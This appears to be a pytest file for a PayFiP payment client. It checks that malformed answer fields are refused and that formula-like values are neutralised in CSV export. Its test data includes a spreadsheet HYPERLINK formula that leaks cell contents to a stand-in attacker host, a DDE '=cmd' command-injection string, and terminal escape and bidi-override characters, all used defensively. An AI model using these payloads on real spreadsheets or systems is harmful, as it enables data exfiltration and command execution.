# ruff: noqa: F811 - fixtures imported from payfip_support are injected by name
"""What comes back from PayFiP: each field of an answer is checked against its documented
format where the client receives it (``client.py``, ``models.answer_problems``). A value
out of its format refuses the whole answer: a RemoteServiceError naming the operation
and the field, the value escaped and cut, nothing recorded (the operation stays open and
reconcile asks again). numauto, whose format is not documented, is kept as received
when it is printable: the payments CSV never lets it start a formula."""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest
import sqlalchemy as sa

from pesgen.errors import RemoteServiceError
from pesgen.payfip import ledger, soap
from pesgen.payfip.client import PayfipClient
from pesgen.payfip.service import create_link
from pesgen.payfip.tables import anomalies, operations

from .payfip_support import (  # noqa: F401 - fixtures
    MAPPING,
    TIMEOUT,
    exported,
    fake,
    flow,
    receiver,
    store,
)

COLL = "21450999400015"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'


def _count(store, table):
    with store.engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(table)).scalar()


# field, value PayFiP answers, what the refusal says of it
REFUSED = [
    ("montant", "=1+1", "montant '=1+1' is not an integer number of cents"),
    ("montant", "187.50", "montant '187.50' is not an integer number of cents"),
    ("montant", "", "montant is missing"),
    ("refdet", FORMULA, "refdet '=HYPERLINK("),
    ("numcli", "+33123", "numcli '+33123' is not 6 digits"),
    ("resultrans", "PAID", "resultrans 'PAID' is not one capital letter"),
    ("resultrans", "", "resultrans is missing"),
    ("idOp", "-1+1", "idOp '-1+1' is not an operation identifier"),
    ("saisie", "@W", "saisie '@W' is not one capital letter"),
    ("exer", "20261", "exer '20261' is not up to 4 digits"),
    ("dattrans", "31022026", "dattrans '31022026' is not a date DDMMYYYY"),
    ("heurtrans", "2460", "heurtrans '2460' is not a time HHMM"),
    ("mel", "famille.example.org", "mel 'famille.example.org' is not an e-mail address"),
    ("objet", "Cantine <b>", "objet 'Cantine <b>' is not at most 100"),
    # C1 CSI (a terminal's escape sequence) and a right-to-left override: shown escaped
    ("numauto", "\x9b2J\u202eA55A", "numauto '\\x9b2J\\u202eA55A' is not printable text"),
    ("numauto", "A" * 65, "… (65 characters) is not printable text of at most 64"),
]


@pytest.mark.parametrize("field, value, said", REFUSED, ids=[f"{f}-{i}" for i, (f, _v, _s)
                                                              in enumerate(REFUSED)])
def test_an_answer_out_of_its_documented_format_is_refused_and_nothing_recorded(
        flow, store, field, value, said):
    link = flow.link(mode="W")
    flow.control("tamper", {"idop": link.id_op, "fields": {field: value}})
    flow.pay(link, "card")  # the notification's pull is refused

    op = ledger.get_operation(store, link.id_op)
    assert op["status"] == "unknown" and op["result_code"] is None and op["numauto"] is None
    assert said in op["last_error"] and "rule payfip.answer" in op["last_error"]
    pay = ledger.payment_of(store, COLL, link.invoice)
    assert (pay["status"], pay["paid_cents"], pay["numauto"]) == ("pending", None, None)
    assert _count(store, anomalies) == 0

    [outcome] = flow.reconcile()  # refused again: still nothing recorded, said so
    assert outcome.action == "error" and outcome.status == "unknown"
    assert outcome.message.startswith(
        f"PayFiP recupererDetailPaiementSecurise of operation {link.id_op}: the answer is "
        "refused, nothing of it was recorded: ")
    assert said in outcome.message
    assert "\x9b" not in outcome.message and "\u202e" not in outcome.message
    assert len(outcome.message) < 400  # the value is cut

    flow.fake.payfip.operations[link.id_op].tamper.clear()  # PayFiP answers right again
    [outcome] = flow.reconcile()
    assert (outcome.action, outcome.status) == ("recorded", "paid")
    assert ledger.payment_of(store, COLL, link.invoice)["status"] == "paid"


def test_a_well_formed_answer_is_read_as_before(flow, store):
    """The formats accept what PayFiP is documented to send: the guide's sample values
    (numauto A55A, refdet of digits), a numauto as recorded live, an exer cut to 2
    digits as recorded live, no numauto on a refusal."""
    link = flow.link(mode="W")
    flow.control("tamper", {"idop": link.id_op, "fields": {
        "numauto": "112233445566-tip", "exer": "20", "dattrans": "29022028",
        "heurtrans": "2359", "mel": "gerard.riviere@dgfip.finances.gouv.fr",
        "objet": "test"}})
    flow.pay(link, "card")
    pay = ledger.payment_of(store, COLL, link.invoice)
    assert (pay["status"], pay["numauto"]) == ("paid", "112233445566-tip")
    assert pay["paid_at"] == "2028-02-29T23:59:00+01:00"


def test_a_numauto_starting_as_a_formula_is_kept_exact_and_guarded_in_the_payments_csv(
        flow, store, tmp_path):
    """numauto's format is not documented: kept as received (a payment is recorded), but
    the payments CSV writes it so that a spreadsheet shows it, never runs it."""
    from typer.testing import CliRunner

    from pesgen.cli import app

    link = flow.link(mode="W")
    flow.control("tamper", {"idop": link.id_op, "fields": {"numauto": FORMULA}})
    flow.pay(link, "card")
    pay = ledger.payment_of(store, COLL, link.invoice)
    assert (pay["status"], pay["numauto"]) == ("paid", FORMULA)  # stored exact

    db = store.engine.url.render_as_string(hide_password=False)
    out = tmp_path / "payments.csv"
    result = CliRunner().invoke(app, ["payfip", "payments", "--db", db, "-o", str(out)])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")), delimiter=";"))
    assert row["numauto"] == "'" + FORMULA
    assert (row["invoice"], row["status"], row["amount_paid"]) == (link.invoice, "paid",
                                                                   "187.50")
    result = CliRunner().invoke(app, ["payfip", "payments", "--format", "json", "--db", db])
    assert result.exit_code == 0
    assert [r["numauto"] for r in json.loads(result.stdout)] == [FORMULA]  # as it is


def test_an_idop_out_of_its_format_is_refused_and_no_operation_recorded(store, exported):
    def payfip(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=soap.response(
            "creerPaiementSecurise", [("idOp", "=cmd|'/C calc'!A0")]),
            headers={"Content-Type": soap.CONTENT_TYPE})

    http = httpx.Client(transport=httpx.MockTransport(payfip))
    with PayfipClient("http://payfip.test/tpa", http=http) as client, \
            pytest.raises(RemoteServiceError) as info:
        create_link(store, MAPPING, "FA-2026-00102", notify_url="http://h.test/n",
                    client=client, timeout=TIMEOUT)
    assert str(info.value) == (
        "invoice FA-2026-00102: PayFiP creerPaiementSecurise: the answer is refused, "
        "nothing of it was recorded: idOp \"=cmd|'/C calc'!A0\" is not an operation "
        "identifier (letters, digits and '-', the first a letter or a digit, at most 64) "
        "(rule payfip.answer)")
    assert _count(store, operations) == 0
    assert ledger.payment_of(store, COLL, "FA-2026-00102") is None


# the required fields of a paid answer, each in its format: the base every case changes
ANSWER = {"resultrans": "P", "montant": "18750", "refdet": "FA202600102", "numcli": "012345"}


@pytest.mark.parametrize("field, value, taken", [
    # refdet: 6 to 30 of [A-Za-z0-9], any case (one sent before pesgen upper-cased it
    # comes back as sent, and its operation must still be answered)
    ("refdet", "fa2026", True), ("refdet", "Ab3" * 10, True),
    ("refdet", "FA202", False), ("refdet", "A" * 31, False),
    ("refdet", "FA-2026-00102", False), ("refdet", "FA2026\n", False),
    # idOp: letters, digits and '-', the first a letter or a digit (either case), <= 64
    ("idOp", "a", True), ("idOp", "B-1", True), ("idOp", "7e2f-c0", True),
    ("idOp", "a" + "-" * 63, True), ("idOp", "a" * 65, False), ("idOp", "-a", False),
])
def test_an_answer_field_is_taken_up_to_the_limits_of_its_documented_format(
        field, value, taken):
    """The limits themselves pass and one past them is refused (docs/payfip.md, "What
    comes back from PayFiP"): a refdet of 6 or 30 characters, in lower case too, an idOp
    of 1 to 64 characters whose first is a letter of either case or a digit."""
    from pesgen.payfip.models import answer_problems

    problems = answer_problems({**ANSWER, field: value})
    if taken:
        assert problems == []
    else:
        [said] = problems
        assert said.startswith(f"{field} ") and " is not " in said
